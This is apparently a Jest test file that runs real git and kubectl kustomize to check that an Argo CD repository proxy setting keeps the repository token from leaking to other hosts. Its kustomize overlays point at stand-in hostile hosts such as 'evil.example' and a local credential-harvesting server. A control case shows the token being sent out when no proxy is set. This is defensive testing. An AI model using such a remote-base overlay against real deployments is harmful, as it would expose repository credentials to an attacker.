/**
 * The repository Secret's proxy, in the real runtime: real `git` and real `kubectl kustomize` (kustomize's own git
 * clone and HTTP loader), run with the environment Argo CD v3.4.4 gives a kustomize build of this repository (util/
 * kustomize Build: the process environment, the credentials' GIT_ASKPASS, then util/proxy UpsertEnv: any
 * http_proxy/https_proxy/no_proxy dropped, the repository's proxy and noProxy set). Argo CD's askpass answers any
 * host; the fake one here records every prompt. A local server plays "another host" that asks for credentials.
 */
import { execFile } from "child_process";
import { createServer, Server } from "http";
import { AddressInfo } from "net";
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import { join } from "path";
import { NO_FETCH_PROXY, repositoryExternalSecret } from "../../components/gitops/gitCredentials";
import { stackConfig } from "../graphHelpers";

jest.setTimeout(120_000);

const repoUrl = stackConfig("main").gitops.repoUrl;
const secretData = repositoryExternalSecret({ repoUrl, secretName: "s", store: "st" }).spec.target.template
    .data as Record<string, string>;

/** util/proxy UpsertEnv: without a proxy the environment is left as it is. */
function argoEnv(base: NodeJS.ProcessEnv, proxy: string | undefined, noProxy: string | undefined): NodeJS.ProcessEnv {
    if (!proxy) return { ...base };
    const kept = Object.entries(base).filter(([k]) => !/^(http_proxy|https_proxy|no_proxy)/i.test(k));
    return { ...Object.fromEntries(kept), http_proxy: proxy, https_proxy: proxy, no_proxy: noProxy ?? "" };
}

const run = (cmd: string, args: string[], env: NodeJS.ProcessEnv, cwd: string) =>
    new Promise<{ code: number; out: string }>((done) =>
        execFile(cmd, args, { env, cwd, timeout: 60_000 }, (err, stdout, stderr) =>
            done({ code: err ? ((err as { code?: number }).code ?? 1) : 0, out: `${stdout}${stderr}` }),
        ),
    );

describe("the repository proxy keeps the token at home", () => {
    let dir: string;
    let server: Server;
    let port: number;
    const authorizations: string[] = [];
    let env: NodeJS.ProcessEnv;
    const askpassLog = () =>
        existsSync(join(dir, "askpass.log")) ? readFileSync(join(dir, "askpass.log"), "utf8") : "";

    beforeAll(async () => {
        dir = mkdtempSync(join(tmpdir(), "repo-proxy-"));
        const askpass = join(dir, "askpass.sh");
        writeFileSync(
            askpass,
            `#!/bin/sh\necho "$1" >> "${dir}/askpass.log"\ncase "$1" in Username*) echo x-access-token;; *) echo the-repository-token;; esac\n`,
        );
        chmodSync(askpass, 0o755);
        server = createServer((req, res) => {
            authorizations.push(req.headers.authorization ?? "");
            res.writeHead(401, { "WWW-Authenticate": 'Basic realm="another host"' }).end();
        });
        await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
        port = (server.address() as AddressInfo).port;
        const base = { PATH: process.env.PATH, HOME: dir, GIT_ASKPASS: askpass, GIT_TERMINAL_PROMPT: "0" };
        env = argoEnv(base, secretData.proxy, secretData.noProxy);
    });
    afterAll(async () => {
        await new Promise((r) => server.close(r));
        rmSync(dir, { recursive: true, force: true });
    });
    beforeEach(() => {
        authorizations.length = 0;
        rmSync(join(dir, "askpass.log"), { force: true });
    });

    const overlay = (resource: string) => {
        const k = mkdtempSync(join(dir, "overlay-"));
        writeFileSync(join(k, "kustomization.yaml"), `resources:\n  - ${resource}\n`);
        return k;
    };

    it("sets the proxy and the repository's host as the only direct host", () => {
        expect(secretData.proxy).toBe(NO_FETCH_PROXY);
        expect(secretData.noProxy).toBe(new URL(repoUrl).hostname);
    });

    it("a remote base on another host: git never reaches it, askpass is never asked, no credential leaves", async () => {
        const r = await run(
            "kubectl",
            ["kustomize", overlay(`http://127.0.0.1:${port}/evil/repo.git//base?ref=main`)],
            env,
            dir,
        );
        expect(r.code).not.toBe(0);
        expect(r.out).toMatch(/127\.0\.0\.1 port 1/);
        expect(askpassLog()).toBe("");
        expect(authorizations.filter((a) => a !== "")).toEqual([]);
    });

    it("a remote file or base on a named host goes to the dead proxy (Go's HTTP loader and git alike)", async () => {
        const file = await run("kubectl", ["kustomize", overlay("https://evil.example/kustomization.yaml")], env, dir);
        expect(file.out).toMatch(/proxyconnect tcp: dial tcp 127\.0\.0\.1:1/);
        const git = await run("git", ["ls-remote", "https://gitlab.example/evil/repo.git"], env, dir);
        expect(git.out).toMatch(/127\.0\.0\.1 port 1/);
        expect(askpassLog()).toBe("");
    });

    it("the repository itself is fetched directly (no_proxy), not through the dead proxy", async () => {
        const r = await run("git", ["ls-remote", repoUrl], { ...env, GIT_ASKPASS: "/bin/false" }, dir);
        expect(r.out).not.toMatch(/127\.0\.0\.1|proxy/i);
    });

    it("the control: without the proxy the same overlay hands the token to the other host", async () => {
        // A repository Secret without proxy: Argo CD leaves the environment as it is (here: no proxy at all).
        const bare = argoEnv(
            { PATH: env.PATH, HOME: env.HOME, GIT_ASKPASS: env.GIT_ASKPASS, GIT_TERMINAL_PROMPT: "0" },
            undefined,
            undefined,
        );
        await run(
            "kubectl",
            ["kustomize", overlay(`http://127.0.0.1:${port}/evil/repo.git//base?ref=main`)],
            bare,
            dir,
        );
        expect(askpassLog()).toMatch(/^Username for 'http:\/\/127\.0\.0\.1/m);
        expect(authorizations).toContain(
            `Basic ${Buffer.from("x-access-token:the-repository-token").toString("base64")}`,
        );
    });
});
